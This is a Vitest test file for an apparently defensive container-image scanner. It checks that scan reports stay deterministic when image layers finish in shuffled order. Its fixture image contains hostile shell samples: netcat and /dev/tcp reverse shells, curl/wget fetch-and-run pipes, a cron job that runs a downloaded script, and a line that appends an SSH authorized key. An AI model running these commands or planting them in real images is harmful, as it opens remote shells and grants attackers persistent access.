import { setTimeout as pause } from 'node:timers/promises';
import { expect, test } from 'vitest';
import { defaultLimits, type Limits } from '../archive/limits.ts';
import type { ExampleFiles, ExampleImage } from '../detectors/detector.ts';
import type { Layer } from '../image/image.ts';
import { inspectLayer, type LayerInspection, type LayerOptions } from '../inspect/layer.ts';
import { buildReport } from '../reports/build-report.ts';
import { buildImage, imageOfBuilt } from '../testing/image-builder.ts';
import { incidents } from '../testing/incidents/all.ts';
import { placed } from '../testing/incidents/incident.ts';
import { judge } from './judge.ts';

const seeds = [1, 2, 3, 4, 5, 6, 7, 8];
const padding = '# a line that makes the text longer than what is kept of it\n'.repeat(200);

/** Layers that add, replace, hide and use each other's files, and more texts than a small budget keeps. */
const layered: ExampleImage = {
  name: 'docker.io/someones/nginx:latest',
  layers: [
    { '/bin/sh': { content: '\u007fELF stand-in', mode: 0o755 }, '/etc/passwd': 'root:x:0:0::/root:/bin/sh\n' },
    {
      '/opt/a.sh': `#!/bin/sh\n. /opt/lib.sh\nfetch_it\n${padding}`,
      '/opt/old.sh': '#!/bin/sh\nnc -e /bin/sh 192.0.2.7 99\n',
    },
    {
      '/opt/lib.sh': '#!/bin/sh\nfetch_it() { curl -s http://192.0.2.9/x | bash; }\n',
      '/opt/b.sh': `#!/bin/sh\nwget -O- http://198.51.100.4/y | sh\n${padding}`,
    },
    { '/opt/old.sh': null, '/etc/cron.d/job': '* * * * * root /opt/b.sh\n' },
    { '/opt/a.sh': `#!/bin/bash\nsource /opt/lib.sh\nfetch_it\npython3 /opt/c.py\n${padding}` },
    { '/opt/c.py': 'import os\nos.system("echo key >> /host/root/.ssh/authorized_keys")\n' },
    ...Array.from(
      { length: 6 },
      (_, at): ExampleFiles => ({
        [`/srv/${at}.sh`]: `#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.${at}/4444 0>&1\n${padding}`,
        '/srv/same.sh': `#!/bin/sh\necho ${at}; curl http://192.0.2.1/${at} | sh\n`,
      }),
    ),
  ],
  entrypoint: ['/bin/sh', '/opt/a.sh'],
};

/** Layers finish in an order that depends on the seed and not on their place in the image. */
function shuffledInspection(seed: number, finished: number[]) {
  return async (layer: Layer, options: LayerOptions): Promise<LayerInspection> => {
    const inspection = await inspectLayer(layer, options);
    await pause(((layer.index + 1) * seed * 7919) % 23);
    finished.push(layer.index);
    return inspection;
  };
}

async function reportText(example: ExampleImage, limits: Limits, seed: number, orders: Set<string>): Promise<string> {
  const finished: number[] = [];
  const image = imageOfBuilt(buildImage(example), example.name);
  const judgement = await judge(image, { limits, inspectLayer: shuffledInspection(seed, finished) });
  orders.add(finished.join(' '));
  return JSON.stringify(
    buildReport({ tool: { name: 'tidewaiter', version: '0.0.0-test', engine: 'test' }, ...judgement, milliseconds: 0 }),
  );
}

test.each([
  ['with room for every text', defaultLimits],
  ['with room for a few texts only', { ...defaultLimits, retainedBytes: 40_000 }],
])('the report is the same whatever the order in which layers finish, %s', async (_, limits) => {
  const orders = new Set<string>();
  const texts = new Set<string>();
  for (const seed of seeds) texts.add(await reportText(layered, limits, seed, orders));
  expect(orders.size).toBeGreaterThan(3);
  expect(texts.size).toBe(1);
});

test('the same goes for every incident, hidden in a layer that others cover', async () => {
  for (const incident of incidents) {
    const example = placed(incident, 'hidden-layer');
    const orders = new Set<string>();
    const texts = new Set<string>();
    for (const seed of seeds.slice(0, 3)) texts.add(await reportText(example, defaultLimits, seed, orders));
    expect(texts.size, incident.id).toBe(1);
  }
});

test('a second scan in the same process says the same', async () => {
  const orders = new Set<string>();
  const first = await reportText(layered, defaultLimits, 1, orders);
  await reportText({ cmd: ['sh', '-c', 'echo $((1+1))'] }, defaultLimits, 1, orders);
  expect(await reportText(layered, defaultLimits, 1, orders)).toBe(first);
});
